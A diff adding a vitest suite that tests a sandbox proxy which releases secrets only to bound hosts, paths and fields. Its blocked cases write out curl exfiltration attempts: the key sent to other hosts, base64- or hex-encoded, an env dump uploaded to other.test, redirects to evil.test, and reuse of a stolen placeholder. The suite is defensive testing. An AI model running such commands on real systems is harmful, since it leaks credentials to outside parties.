@@ -1,0 +1,171 @@
+import type { Sandbox } from "@sandboxer/sdk";
+import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
+import { requires } from "../capabilities/requires.ts";
+import { holds, KEY, MODEL } from "./lab/keys.ts";
+import { WORLD } from "./lab/lab.ts";
+import { type Bench, openBench, text } from "./lab/sandbox.ts";
+
+const { describe } = await requires("linux-userns", "boxd", "egress-lab");
+
+const TOKEN = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
+
+describe("where a secret may be put in, and nowhere else", () => {
+  let bench: Bench;
+  let sandbox: Sandbox;
+  beforeAll(async () => {
+    bench = await openBench();
+    for (const name of ["model.test", "other.test", "sub.model.test"]) await bench.lab.name(name, [WORLD]);
+    const cell = (path: string, place: { in: "query" | "body" | "header"; name: string }) => ({
+      host: "model.test",
+      ports: [443],
+      paths: [path],
+      place,
+    });
+    await bench.client.secrets.set("MODEL_KEY", {
+      value: KEY,
+      bindings: [MODEL, cell("/query", { in: "query", name: "key" })],
+    });
+    await bench.client.secrets.set("TOKEN", {
+      value: TOKEN,
+      bindings: [
+        cell("/git/**", { in: "header", name: "authorization" }),
+        cell("/json", { in: "body", name: "/auth/token" }),
+        cell("/form", { in: "body", name: "token" }),
+      ],
+    });
+    const rules = ["model.test", "other.test", "sub.model.test"].flatMap((host) => [
+      { host, inspect: true },
+      { host, protocol: "http" as const },
+    ]);
+    sandbox = await bench.sandbox({ rules }, { secrets: ["MODEL_KEY", "TOKEN"] });
+  });
+  afterAll(() => bench.close());
+  beforeEach(() => bench.lab.clear());
+
+  /** As a program inside would: variables are what the shell makes of them. */
+  const ask = async (line: string) => {
+    const { stdout } = await sandbox.run([
+      "sh",
+      "-c",
+      `env | grep MODEL > /tmp/e; curl -s --max-time 10 -w '\\n%{http_code}' ${line}`,
+    ]);
+    return text(stdout);
+  };
+  const seen = async () => (await bench.lab.look()).records.filter(({ kind }) => kind === "request");
+  const misuses = async () =>
+    (await bench.client.events.list({ limit: 1_000 })).filter(({ type }) => type === "secret.misused");
+
+  const ALLOWED: Record<string, string> = {
+    "its header": '-H "x-api-key: $MODEL_KEY" https://model.test/v1/x',
+    "the header in other letters": '-H "X-API-Key: $MODEL_KEY" https://model.test/v1/x',
+    "the host in capitals": '-H "x-api-key: $MODEL_KEY" https://MODEL.test/v1/x',
+    "the host with a dot": '-H "x-api-key: $MODEL_KEY" https://model.test./v1/x',
+    "another method": '-X DELETE -H "x-api-key: $MODEL_KEY" https://model.test/v1/x',
+    "by the proxy": '--proxy http://198.18.0.1:3128 -H "x-api-key: $MODEL_KEY" https://model.test/v1/x',
+    "the query": '"https://model.test/query?a=1&key=$MODEL_KEY&b=2"',
+  };
+  it.each(Object.entries(ALLOWED))("SE-2 the far side sees the secret: %s", async (_, line) => {
+    expect(await ask(line)).toMatch(/\n200$/);
+    const [request] = await seen();
+    expect(JSON.stringify(request)).toContain(KEY);
+  });
+
+  const STOPPED: Record<string, string> = {
+    "another header": '-H "authorization: Bearer $MODEL_KEY" https://model.test/v1/x',
+    "a header's name": '-H "$MODEL_KEY: x" https://model.test/v1/x',
+    "another path": '-H "x-api-key: $MODEL_KEY" https://model.test/v2/x',
+    "a path that is made to look right":
+      '--path-as-is -H "x-api-key: $MODEL_KEY" https://model.test/v1/../v2',
+    "the path": '"https://model.test/v1/$MODEL_KEY"',
+    "another member of the query": '"https://model.test/query?other=$MODEL_KEY"',
+    "a query's name": '"https://model.test/query?$MODEL_KEY=1"',
+    "the body": '-d "$MODEL_KEY" https://model.test/v1/x',
+    "another host": '-H "x-api-key: $MODEL_KEY" https://other.test/v1/x',
+    "a name below it": '-H "x-api-key: $MODEL_KEY" https://sub.model.test/v1/x',
+    "without TLS": '-H "x-api-key: $MODEL_KEY" http://model.test/v1/x',
+    "without TLS, by the proxy":
+      '--proxy http://198.18.0.1:3128 -H "x-api-key: $MODEL_KEY" http://model.test/v1/x',
+    "in base64": '-H "x-data: $(printf %s "u:$MODEL_KEY" | base64 -w0)" https://model.test/v1/x',
+    "in hex": '-d "$(printf %s "$MODEL_KEY" | od -An -tx1 | tr -d \' \\n\')" https://model.test/v1/x',
+    percent: "-d \"$(printf %s \"$MODEL_KEY\" | od -An -tx1 | tr -d '\\n' | tr ' ' %)\" https://other.test/",
+    "a file that is sent": '-F "a=@/tmp/e;filename=x" https://other.test/upload',
+    "a WebSocket where it is bound":
+      '-H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Key: x" https://model.test/v1/ws',
+  };
+  it.each(Object.entries(STOPPED))("SE-2 neither it nor its placeholder gets out: %s", async (what, line) => {
+    const before = (await misuses()).length;
+    expect(await ask(line)).toMatch(/\n403$/);
+    expect(await seen()).toEqual([]);
+    if (what.startsWith("a WebSocket")) return;
+    const [latest] = (await misuses()).slice(before);
+    if (latest) expect(latest.data).toMatchObject({ secret: "MODEL_KEY", what: "placeholder" });
+    expect((await misuses()).length, "an alarm").toBeGreaterThan(0);
+  });
+
+  it("SE-2 a redirect to another place does not take it along", async () => {
+    await bench.lab.name("evil.test", [WORLD]);
+    expect(await ask('-L -H "x-api-key: $MODEL_KEY" "https://model.test/redirect"')).toMatch(/\n403$/);
+    expect(await ask('-L -H "x-note: $MODEL_KEY" https://other.test/redirect')).toMatch(/\n403$/);
+    expect(await seen()).toEqual([]);
+  });
+
+  it("SE-5 in Basic, in JSON and in a form, with the length that it then has", async () => {
+    expect(await ask('-u "git:$TOKEN" https://model.test/git/x')).toMatch(/\n200$/);
+    expect(
+      await ask(
+        `-H 'content-type: application/json' -d "{\\"auth\\":{\\"token\\":\\"$TOKEN\\"},\\"n\\":1}" https://model.test/json`,
+      ),
+    ).toMatch(/\n200$/);
+    expect(await ask('-d "a=1&token=$TOKEN&b=%2F" https://model.test/form')).toMatch(/\n200$/);
+    const chunked = `-H 'transfer-encoding: chunked' -d "token=$TOKEN" https://model.test/form`;
+    expect(await ask(chunked)).toMatch(/\n200$/);
+    const [basic, json, form, last] = await seen();
+    expect(basic?.headers).toContain(`Basic ${Buffer.from(`git:${TOKEN}`).toString("base64")}`);
+    expect(json?.body).toBe(`{"auth":{"token":"${TOKEN}"},"n":1}`);
+    expect(form?.body).toBe(`a=1&token=${TOKEN}&b=%2F`);
+    expect(last?.body).toBe(`token=${TOKEN}`);
+    for (const one of [json, form]) {
+      const at = (one?.headers ?? []).findIndex((name) => name.toLowerCase() === "content-length");
+      expect(Number(one?.headers?.[at + 1])).toBe(one?.body?.length);
+    }
+  });
+
+  it.each([
+    `{"token":"$TOKEN"}`,
+    `{"auth":{"token":"$TOKEN"},"copy":"$TOKEN"}`,
+    `{"auth":{"token":"$TOKEN","token":"x"}}`,
+    `{"auth":{"$TOKEN":"x"}}`,
+    `["$TOKEN"`,
+  ])("SE-5 JSON with it anywhere else is stopped: %s", async (body) => {
+    const quoted = body.replaceAll('"', '\\"');
+    const line = `-H 'content-type: application/json' -d "${quoted}" https://model.test/json`;
+    expect(await ask(line)).toMatch(/\n403$/);
+    expect(await seen()).toEqual([]);
+  });
+
+  it("SE-3 another sandbox's placeholder is of no use, and is seen", async () => {
+    const mine = text((await sandbox.run(["printenv", "MODEL_KEY"])).stdout).trim();
+    const rules = [{ host: "model.test", inspect: true }];
+    const twin = await bench.sandbox({ rules }, { secrets: ["MODEL_KEY"] });
+    const theirs = text((await twin.run(["printenv", "MODEL_KEY"])).stdout).trim();
+    expect(theirs).not.toBe(mine);
+    const without = await bench.sandbox({ rules });
+    for (const thief of [twin, without]) {
+      const { stdout } = await thief.run([
+        "curl",
+        "-s",
+        "-H",
+        `x-api-key: ${mine}`,
+        "https://model.test/v1/x",
+      ]);
+      expect(text(stdout)).toContain("another sandbox's secret");
+    }
+    expect(await seen()).toEqual([]);
+    expect((await misuses()).filter(({ data }) => data.what === "foreign")).toHaveLength(2);
+    await sandbox.refresh();
+    await twin.destroy();
+    const late = await ask(`-H "x-api-key: ${theirs}" https://model.test/v1/x`);
+    expect(late, "also of one that is gone").toMatch(/\n403$/);
+    expect(holds(late, KEY)).toEqual([]);
+  });
+});
